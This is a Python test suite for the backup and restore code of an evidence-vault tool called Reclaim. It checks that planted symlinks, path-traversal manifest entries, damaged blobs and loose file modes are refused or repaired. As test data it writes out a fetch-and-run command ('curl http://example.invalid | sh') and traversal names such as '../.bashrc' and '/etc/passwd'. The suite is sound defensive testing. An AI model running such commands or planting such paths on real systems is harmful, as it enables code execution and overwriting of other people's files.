"""Attacks on backups, performed on real files: planted links that would make a backup
or a restore write (or delete) somewhere else, a manifest that names files outside the
case, damage that an incremental backup would carry forward, and files left readable by
others. Each must be refused in one plain sentence, with nothing lost or written outside."""

from __future__ import annotations

import json
import os
import stat
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from tests.support.cases import FAST_KDF, PASSPHRASE
from tests.support.cli import Result, run_reclaim
from tests.support.pictures import make_png
from tui.core.copies.backup import make_backup
from tui.core.copies.manifest import MANIFEST, UNFINISHED, backup_folder, manifest_key, sign
from tui.core.copies.register import list_copies, summary
from tui.core.copies.restore import restore
from tui.core.copies.verify import verify_backup
from tui.core.evidence.adding import add_file
from tui.core.evidence.model import list_exhibits
from tui.core.shared.errors import Cancelled, InputError, ReclaimError, VaultDamaged
from tui.core.vault.vault import Vault

LINK = "is a link to somewhere else; Reclaim won't"
REMEDY = "Remove it or choose another folder."
Tree = dict[str, tuple[int, bytes | str]]


def tree(path: Path) -> Tree:
    """Every entry under `path`, links not followed: its mode and content (or target),
    to prove an attack changed nothing there."""
    found: Tree = {}
    for top, folders, files in os.walk(path):
        for name in [*folders, *files]:
            entry = Path(top) / name
            info = entry.lstat()
            if stat.S_ISLNK(info.st_mode):
                value: bytes | str = f"-> {entry.readlink()}"
            elif stat.S_ISDIR(info.st_mode):
                value = "folder"
            else:
                value = entry.read_bytes()
            found[str(entry.relative_to(path))] = (info.st_mode, value)
    return found


def flip_a_byte(path: Path) -> None:
    data = bytearray(path.read_bytes())
    data[len(data) // 2] ^= 0x01
    path.write_bytes(bytes(data))


def one_sentence_refusal(error: ReclaimError | str) -> str:
    text = str(error).strip()
    assert "\n" not in text and "Traceback" not in text, text
    return text


@pytest.fixture
def case(vault: Vault, tmp_path: Path) -> Vault:
    (tmp_path / "voice.bin").write_bytes(os.urandom(300 * 1024))
    add_file(vault, tmp_path / "voice.bin", {"description": "a voice note"})
    add_file(vault, make_png(tmp_path / "shot.png"), {"platform": "Instagram"})
    return vault


@pytest.fixture
def other_case(tmp_path: Path) -> Iterator[Path]:
    """Another person's case on the same disk: the target of planted links."""
    made, _code = Vault.create(tmp_path / "other-case", PASSPHRASE, FAST_KDF)
    with made:
        add_file(made, make_png(tmp_path / "theirs.png", color="purple"))
    yield made.path


def blob_of(folder: Path) -> Path:
    return sorted((folder / "blobs").glob("*.blob"))[0]


# ---- 1. planted links ----------------------------------------------------------------


def test_a_blobs_link_into_another_case_is_refused_by_reclaim_backup(
    case: Vault,
    drive: Path,
    other_case: Path,
    cli: Callable[..., Result],
) -> None:
    folder = backup_folder(drive, case)
    folder.mkdir()
    (folder / "blobs").symlink_to(other_case / "blobs", target_is_directory=True)
    theirs, ours = tree(other_case), tree(case.path)

    result = cli("backup", str(drive))

    assert result.returncode == 1, result.stdout
    message = one_sentence_refusal(result.stderr.removeprefix("reclaim: "))
    assert f"{folder / 'blobs'} {LINK} write through it. {REMEDY}" in message
    assert tree(other_case) == theirs, "the other case's evidence is all still there"
    assert tree(case.path) == ours
    assert sorted(p.name for p in folder.iterdir()) == ["blobs"], "nothing was written"


@pytest.mark.parametrize("where", ["folder", "blobs", "blob", "manifest", "unfinished", "header"])
def test_a_link_anywhere_in_a_backup_is_refused_before_anything_is_written(
    case: Vault, drive: Path, other_case: Path, tmp_path: Path, where: str
) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("someone else's file\n")
    folder = backup_folder(drive, case)
    if where == "folder":
        folder.symlink_to(other_case, target_is_directory=True)
        planted = folder
    else:
        make_backup(case, drive)
        planted = {
            "blobs": folder / "blobs",
            "blob": blob_of(folder),
            "manifest": folder / MANIFEST,
            "unfinished": folder / UNFINISHED,
            "header": folder / "header.json",
        }[where]
        if planted.is_dir():
            planted.rename(tmp_path / "moved-blobs")
            planted.symlink_to(other_case / "blobs", target_is_directory=True)
        else:
            planted.unlink(missing_ok=True)
            planted.symlink_to(other_case / "blobs" if where == "blobs" else victim)
    theirs, before = tree(other_case), (victim.read_bytes(), victim.stat().st_ino)
    backup_before = tree(folder) if where != "folder" else {}

    with pytest.raises(InputError) as refused:
        make_backup(case, drive)

    assert f"{planted} {LINK} write through it. {REMEDY}" == one_sentence_refusal(refused.value)
    assert tree(other_case) == theirs
    assert (victim.read_bytes(), victim.stat().st_ino) == before
    assert stat.S_IMODE(other_case.stat().st_mode) == stat.S_IMODE(
        (tmp_path / "other-case").stat().st_mode
    )
    if where != "folder":
        assert tree(folder) == backup_before, "the backup was not touched either"


@pytest.mark.parametrize("where", ["blobs", "blob", "header", "manifest"])
def test_verify_and_restore_refuse_a_backup_that_holds_a_link(
    case: Vault, drive: Path, tmp_path: Path, where: str
) -> None:
    folder = make_backup(case, drive).folder
    # The link points at an exact copy elsewhere, so the bytes would all check out.
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    if where == "blobs":
        planted = folder / "blobs"
        planted.rename(elsewhere / "blobs")
        planted.symlink_to(elsewhere / "blobs", target_is_directory=True)
    else:
        planted = {
            "blob": blob_of(folder),
            "header": folder / "header.json",
            "manifest": folder / MANIFEST,
        }[where]
        planted.rename(elsewhere / planted.name)
        planted.symlink_to(elsewhere / planted.name)
    outside = tree(elsewhere)

    with pytest.raises(InputError) as refused_check:
        verify_backup(drive, PASSPHRASE)
    assert f"{planted} {LINK}" in one_sentence_refusal(refused_check.value)
    with pytest.raises(InputError) as refused:
        restore(drive, tmp_path / "restored", passphrase=PASSPHRASE)
    assert f"{planted} {LINK}" in one_sentence_refusal(refused.value)
    assert not (tmp_path / "restored").exists()
    assert not (tmp_path / ".restored.restoring").exists()
    assert tree(elsewhere) == outside


def test_restore_never_writes_through_a_planted_staging_or_target_link(
    case: Vault, drive: Path, other_case: Path, tmp_path: Path
) -> None:
    make_backup(case, drive)
    theirs = tree(other_case)
    staging = tmp_path / ".restored.restoring"
    staging.symlink_to(other_case, target_is_directory=True)
    with pytest.raises(InputError) as refused:
        restore(drive, tmp_path / "restored", passphrase=PASSPHRASE)
    assert one_sentence_refusal(refused.value) == f"{staging} {LINK} write through it. {REMEDY}"
    assert tree(other_case) == theirs and not (tmp_path / "restored").exists()
    assert staging.is_symlink(), "the planted link is left for the person to see"

    empty = tmp_path / "empty"
    empty.mkdir()
    target = tmp_path / "linked-target"
    target.symlink_to(empty, target_is_directory=True)
    with pytest.raises(InputError, match=LINK):
        restore(drive, target, passphrase=PASSPHRASE)
    assert list(empty.iterdir()) == [] and target.is_symlink()


def test_reclaim_restore_refuses_a_linked_blob_with_one_sentence(
    case: Vault, drive: Path, tmp_path: Path, passphrase_file: Path
) -> None:
    folder = make_backup(case, drive).folder
    blob = blob_of(folder)
    blob.rename(tmp_path / blob.name)
    blob.symlink_to(tmp_path / blob.name)
    result = run_reclaim(
        "restore", str(drive), "--vault", str(tmp_path / "restored"),
        "--passphrase-file", str(passphrase_file),
    )  # fmt: skip
    assert result.returncode == 1
    message = one_sentence_refusal(result.stderr.removeprefix("reclaim: "))
    assert message.startswith(f"{blob} {LINK}")
    assert not (tmp_path / "restored").exists()


# ---- 2. a manifest naming files outside the case ------------------------------------------


def sign_manifest(case: Vault, folder: Path, change: Callable[[dict[str, object]], None]) -> None:
    """What someone holding a backup (and so its key) can do: rewrite its manifest and
    sign it again with manifest.py's own functions."""
    manifest = json.loads((folder / MANIFEST).read_text())
    body = {k: v for k, v in manifest.items() if k != "mac"}
    change(body)
    signed = {**body, "mac": sign(body, manifest_key(case))}
    (folder / MANIFEST).write_text(json.dumps(signed))


def add_entry(name: str, content: bytes) -> Callable[[dict[str, object]], None]:
    import hashlib

    def change(body: dict[str, object]) -> None:
        files = body["files"]
        assert isinstance(files, dict)
        files[name] = {"sha256": hashlib.sha256(content).hexdigest(), "size": len(content)}

    return change


EVIL = b"curl http://example.invalid | sh\n"


@pytest.mark.parametrize("kind", ["parent", "absolute", "through-blobs"])
def test_restore_refuses_a_signed_manifest_that_names_a_file_outside(
    case: Vault, drive: Path, tmp_path: Path, kind: str
) -> None:
    folder = make_backup(case, drive).folder
    outside = tmp_path / "outside"
    outside.mkdir()
    restored = tmp_path / "restored"
    staging = tmp_path / ".restored.restoring"
    if kind == "absolute":
        name = str(outside / "passwd")
        (outside / "passwd").write_bytes(EVIL)
        escape = outside / "passwd"
    elif kind == "parent":
        name = "../.bashrc"
        (drive / ".bashrc").write_bytes(EVIL)
        escape = tmp_path / ".bashrc"
    else:
        name = "blobs/../../planted.blob"
        (drive / "planted.blob").write_bytes(EVIL)
        escape = tmp_path / "planted.blob"
    sign_manifest(case, folder, add_entry(name, EVIL))
    before = tree(tmp_path / "outside")
    escaped_before = (escape.stat().st_ino, escape.read_bytes()) if escape.exists() else None

    check = verify_backup(drive, PASSPHRASE)
    assert not check.whole
    assert any(name in problem for problem in check.problems), check.problems
    with pytest.raises(VaultDamaged) as refused:
        restore(drive, restored, passphrase=PASSPHRASE)

    message = one_sentence_refusal(refused.value)
    assert name in message and "nothing was restored" in message
    assert not restored.exists() and not staging.exists()
    assert tree(tmp_path / "outside") == before
    if escaped_before is None:
        assert not escape.exists(), f"{escape} was written"
    else:
        assert (escape.stat().st_ino, escape.read_bytes()) == escaped_before


@pytest.mark.parametrize(
    "name",
    ["/etc/passwd", "UNFINISHED", "blobs/x.blob", "blobs/" + "A" * 32 + ".blob", "case.db/x"],
)
def test_verify_refuses_any_name_a_case_does_not_have_without_reading_it(
    case: Vault, drive: Path, name: str
) -> None:
    folder = make_backup(case, drive).folder
    content = Path(name).read_bytes() if name.startswith("/") else b"x"
    sign_manifest(case, folder, add_entry(name, content))
    check = verify_backup(drive, PASSPHRASE)
    assert not check.whole
    assert check.problems == [
        f"its list of files names {name}, which is not a file a Reclaim case has"
    ]


def test_reclaim_backup_verify_and_restore_refuse_a_name_outside(
    case: Vault, drive: Path, tmp_path: Path, cli: Callable[..., Result], passphrase_file: Path
) -> None:
    folder = make_backup(case, drive).folder
    (drive / ".bashrc").write_bytes(EVIL)
    sign_manifest(case, folder, add_entry("../.bashrc", EVIL))

    checked = cli("backup", "verify", str(drive))
    assert checked.returncode == 1
    assert "names ../.bashrc, which is not a file a Reclaim case has" in checked.stdout
    restored = run_reclaim(
        "restore", str(drive), "--vault", str(tmp_path / "restored"),
        "--passphrase-file", str(passphrase_file),
    )  # fmt: skip
    assert restored.returncode == 1
    assert "nothing was restored" in one_sentence_refusal(restored.stderr)
    assert not (tmp_path / ".bashrc").exists() and not (tmp_path / "restored").exists()


# ---- 3. damage carried forward --------------------------------------------------------------


def test_a_flipped_byte_in_a_backup_blob_is_rewritten_by_the_next_backup(
    case: Vault, drive: Path
) -> None:
    first = make_backup(case, drive)
    small = min((first.folder / "blobs").glob("*.blob"), key=lambda p: p.stat().st_size)
    flip_a_byte(small)
    assert not verify_backup(drive, PASSPHRASE).whole

    second = make_backup(case, drive)

    assert small.read_bytes() == (case.blob_dir / small.name).read_bytes()
    assert second.copied_bytes < 100 * 1024, "only the damaged blob, header and record"
    assert verify_backup(drive, PASSPHRASE).whole


def test_a_damaged_blob_with_a_resigned_manifest_is_still_rewritten(
    case: Vault, drive: Path
) -> None:
    import hashlib

    folder = make_backup(case, drive).folder
    blob = blob_of(folder)
    flip_a_byte(blob)
    damaged = blob.read_bytes()
    name = f"blobs/{blob.name}"
    sign_manifest(case, folder, add_entry(name, damaged))
    assert (
        hashlib.sha256(damaged).hexdigest()
        == json.loads((folder / MANIFEST).read_text())["files"][name]["sha256"]
    ), "the backup agrees with its own manifest"

    make_backup(case, drive)

    assert blob.read_bytes() == (case.blob_dir / blob.name).read_bytes()
    assert verify_backup(drive, PASSPHRASE).whole


@pytest.mark.parametrize("where", [100, -10], ids=["in-the-stream", "in-the-card"])
def test_a_damaged_blob_in_the_case_never_overwrites_the_whole_copy_in_the_backup(
    case: Vault, drive: Path, where: int
) -> None:
    folder = make_backup(case, drive).folder
    source = blob_of(case.path)
    whole = (folder / "blobs" / source.name).read_bytes()
    data = bytearray(source.read_bytes())
    data[where] ^= 0x01
    source.write_bytes(bytes(data))

    result = make_backup(case, drive)

    assert (folder / "blobs" / source.name).read_bytes() == whole
    owner = next(e.id for e in list_exhibits(case) if e.blob == source.stem)
    assert result.kept == (owner,)
    assert verify_backup(drive, PASSPHRASE).whole, "the backup can restore the exhibit"


def test_a_failed_check_shows_as_damaged_in_the_register_until_a_backup_mends_it(
    case: Vault, drive: Path, cli: Callable[..., Result]
) -> None:
    made = cli("backup", str(drive))
    assert made.returncode == 0, made.stderr
    flip_a_byte(blob_of(backup_folder(drive, case)))

    checked = cli("backup", "verify", str(drive))
    assert checked.returncode == 1

    listing = cli("copies", "list").stdout
    assert "DAMAGED" in listing and "check failed" in listing and "up to date" not in listing
    (entry,) = json.loads(cli("copies", "list", "--json").stdout)
    assert entry["damaged"] is True and entry["last_verified_at"] == ""
    assert "is damaged" in entry["check_problem"]
    assert summary(case) == "1 copy · 1 damaged"
    assert list_copies(case)[0].check_failed_at

    assert cli("backup", str(drive)).returncode == 0
    assert cli("backup", "verify", str(drive)).returncode == 0
    (entry,) = json.loads(cli("copies", "list", "--json").stdout)
    assert entry["damaged"] is False and entry["last_verified_at"]
    assert summary(case) == "1 copy · all up to date"


def test_a_check_refused_for_a_link_also_shows_as_failed(
    case: Vault, drive: Path, tmp_path: Path, cli: Callable[..., Result]
) -> None:
    assert cli("backup", str(drive)).returncode == 0
    blob = blob_of(backup_folder(drive, case))
    blob.rename(tmp_path / blob.name)
    blob.symlink_to(tmp_path / blob.name)
    checked = cli("backup", "verify", str(drive))
    assert checked.returncode == 1 and LINK in checked.stderr
    (entry,) = json.loads(cli("copies", "list", "--json").stdout)
    assert entry["damaged"] is True and LINK in entry["check_problem"]


# ---- 4. modes -------------------------------------------------------------------------------


def modes(folder: Path) -> set[tuple[str, int]]:
    return {
        ("folder" if entry.is_dir() else "file", stat.S_IMODE(entry.lstat().st_mode))
        for entry in [folder, *folder.rglob("*")]
        if entry.name != ".lock"
    }


def test_everything_a_backup_and_a_restore_write_is_private(
    case: Vault, drive: Path, tmp_path: Path
) -> None:
    def pull_the_drive(done: int, total: int) -> None:
        if done > 100 * 1024:
            raise Cancelled()

    with pytest.raises(Cancelled):
        make_backup(case, drive, pull_the_drive)
    folder = backup_folder(drive, case)
    assert stat.S_IMODE((folder / UNFINISHED).stat().st_mode) == 0o600
    make_backup(case, drive)
    assert modes(folder) == {("folder", 0o700), ("file", 0o600)}
    restored = restore(drive, tmp_path / "restored", passphrase=PASSPHRASE).path
    assert modes(restored) == {("folder", 0o700), ("file", 0o600)}


def test_the_bagit_tag_files_of_a_package_are_private(case: Vault, tmp_path: Path) -> None:
    from datetime import date

    from tui.core.binder.choices import BinderChoices
    from tui.core.binder.packages import write_package

    folder = tmp_path / "package"
    write_package(case, folder, BinderChoices(export_date=date(2024, 3, 7)))
    tags = [*folder.glob("*.txt"), folder / "data" / "README.txt"]
    assert {p.name for p in tags} >= {
        "bagit.txt", "bag-info.txt", "manifest-sha256.txt", "tagmanifest-sha256.txt",
        "README.txt",
    }  # fmt: skip
    assert {p.name: stat.S_IMODE(p.stat().st_mode) for p in tags} == {p.name: 0o600 for p in tags}
    payload = [p for p in (folder / "data").rglob("*") if p.is_file()]
    assert all(stat.S_IMODE(p.stat().st_mode) == 0o600 for p in payload)
